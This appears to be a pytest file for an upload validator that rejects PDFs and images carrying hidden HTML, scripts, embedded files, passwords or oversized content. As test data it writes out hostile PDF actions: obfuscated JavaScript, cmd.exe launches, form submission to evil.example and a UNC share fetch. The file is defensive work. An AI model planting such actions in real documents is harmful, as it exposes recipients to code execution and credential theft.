"""PDF and pictures: two kinds at once, what acts, what is locked, cut off or too large when opened."""

import pytest

from core.files.uploads.pdf import MOST_UNPACKED
from tests.core.files import hostile_files as files
from tests.core.files.test_uploads import BESIDES, DAMAGED, NOT_WHAT_IT_SAYS, PDF, check, refusal
from tests.core.files.test_uploads_containers import INSIDE, LOCKED, TOO_LARGE

pytestmark = pytest.mark.unit

ACTS = (
    "This PDF holds a script, a form that sends, or something that starts or is fetched when it is opened. "
    "Print it to a new PDF, and choose that one."
)
TOO_MANY_DOTS = "This picture is too large to be opened safely. Save it smaller, and choose it again."
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (PDF + files.HTML, BESIDES),
        (PDF + files.office(), BESIDES),
        (PDF[:-6] + files.office() + b"%%EOF\n", BESIDES),
        (files.pdf(tail=b"") + files.container({"a": "b"}) + b"\n%%EOF", BESIDES),
        (files.pdf(head=b"%PDF-1.7\n<html><script>alert(1)</script>\n"), BESIDES),
        (files.pdf(head=b"%PDF-1.7\n%<svg onload=alert(1)>\n"), BESIDES),
        (files.pdf(head=b"%PDF-x\n"), NOT_WHAT_IT_SAYS),
        (PDF[:-8], DAMAGED),
        (b"%PDF-1.7\nwords\n%%EOF\n", DAMAGED),
    ],
)
def test_a_pdf_that_is_something_else_besides_or_cut_off_stays_out(content: bytes, told: str) -> None:
    assert refusal("law.pdf", content) == told


@pytest.mark.parametrize(
    "action",
    [
        SCRIPT,
        b"<</S/J#61vaScript/JS(x)>>",
        b"<</S/#4a#61#76#61#53#63#72#69#70#74 /JS(x)>>",
        b"<</S /Launch/F(cmd.exe)>>",
        b"<</Launch(cmd.exe)>>",
        b"<</S/SubmitForm/F(http://evil.example)>>",
        b"<</S/GoToE/F(x)>>",
        b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share)>>",
        b"<</AcroForm<</XFA 7 0 R>>>>",
        b"<</Subtype/RichMedia>>",
        files.object_stream(SCRIPT),
        files.object_stream(b"<</S/Laun#63h/F(cmd.exe)>>"),
        files.stream(b"\x02" + b"11 0 12 5 " + SCRIPT, b"/Type/ObjStm/DecodeParms<</Predictor 12>>"),
        b"<</Type/ObjStm/Filter/ASCIIHexDecode/Length 4>>\nstream\n3131\nendstream",
    ],
)
def test_a_pdf_that_acts_stays_out(action: bytes) -> None:
    assert refusal("law.pdf", files.pdf(action)) == ACTS


@pytest.mark.parametrize(
    "content",
    [
        files.pdf_by_library(attachment=True),
        files.pdf(b"<</Type/Filespec/EF<</F 3 0 R>>>>", b"<</Type/EmbeddedFile>>"),
        files.pdf(files.object_stream(b"<</Names<</EmbeddedFiles 4 0 R>>>>")),
        files.pdf(b"<</Collection<<>>>>"),
    ],
)
def test_a_pdf_with_files_inside_stays_out(content: bytes) -> None:
    assert refusal("law.pdf", content) == INSIDE


def test_a_pdf_with_a_password_stays_out() -> None:
    assert refusal("law.pdf", files.locked_pdf()) == LOCKED
    assert refusal("law.pdf", files.pdf(tail=b"trailer <</#45ncrypt 5 0 R>>\n%%EOF")) == LOCKED


def test_a_pdf_that_unpacks_without_end_stays_out() -> None:
    assert refusal("law.pdf", files.pdf(files.object_stream(b" " * (MOST_UNPACKED + 1)))) == TOO_LARGE


@pytest.mark.parametrize(
    "content",
    [
        files.pdf(b"<</S/URI/URI(https://law.example)>>"),
        files.pdf(b"<</OpenAction[3 0 R/Fit]/Type/Catalog>>"),
        files.pdf(files.object_stream(b"<</Type/Catalog/Pages 2 0 R>>")),
        files.pdf(files.stream(b"0.1 0 0 1 0 0 cm (Launch of JavaScript) Tj")),
        files.pdf(b"<</Subtype/XML>>\nstream\n<x:Movie>a</x:Movie><Movie>b</Movie>\nendstream"),
        files.pdf(b"<</EncryptMetadata false>>"),
        files.pdf(b"<</Filter/DCTDecode>>\nstream\n" + files.jpeg() + b"\nendstream"),
        PDF + b"\r\n\x00\x00",
        files.pdf(head=b"%PDF-2.0\r%\xe2\xe3\xcf\xd3\r"),
    ],
)
def test_an_honest_pdf_comes_in(content: bytes) -> None:
    assert check("law.pdf", content) == "application/pdf"


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("a.png", files.png() + files.office(), BESIDES),
        ("a.png", files.png() + files.HTML, BESIDES),
        ("a.png", files.png(text=b"Comment\x00" + files.HTML), BESIDES),
        ("a.png", files.png(600, 600, text=b"Comment\x00" + b"x" * 3000 + files.HTML), BESIDES),
        ("a.png", files.png()[:-5], DAMAGED),
        ("a.png", files.patched(files.png(), b"IDAT", 6, "<B", 0), DAMAGED),
        ("a.png", b"\x89PNG\r\n\x1a\n" + files.chunk(b"IEND", b""), DAMAGED),
        ("a.png", files.huge_png(), TOO_MANY_DOTS),
        ("a.jpg", files.jpeg() + files.HTML, BESIDES),
        ("a.jpg", files.jpeg() + files.office(), BESIDES),
        ("a.jpg", files.jpeg(comment=files.HTML), BESIDES),
        ("a.jpg", files.jpeg(comment=b"x" * 3000 + files.HTML), BESIDES),
        ("a.jpg", files.jpeg()[:-2], DAMAGED),
        ("a.jpg", files.jpeg()[:400], DAMAGED),
        ("a.jpg", files.jpeg() + files.jpeg()[:300], DAMAGED),
        ("a.jpg", files.huge_jpeg(), TOO_MANY_DOTS),
        ("a.jpg", b"\xff\xd8\xff\xd9", DAMAGED),
        ("a.png", b"GIF89a" + files.png(), NOT_WHAT_IT_SAYS),
    ],
)
def test_a_picture_that_is_not_only_that_stays_out(name: str, content: bytes, told: str) -> None:
    assert refusal(name, content) == told


def test_what_is_packed_in_a_picture_is_never_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    """One hundred million dots at most are declared, and none is made."""
    from PIL import Image, ImageFile

    def never(self: Image.Image) -> None:
        raise AssertionError("the picture was unpacked")

    monkeypatch.setattr(ImageFile.ImageFile, "load", never)
    assert check("a.png", files.png(300, 300)) == "image/png"
    assert check("a.jpg", files.jpeg()) == "image/jpeg"
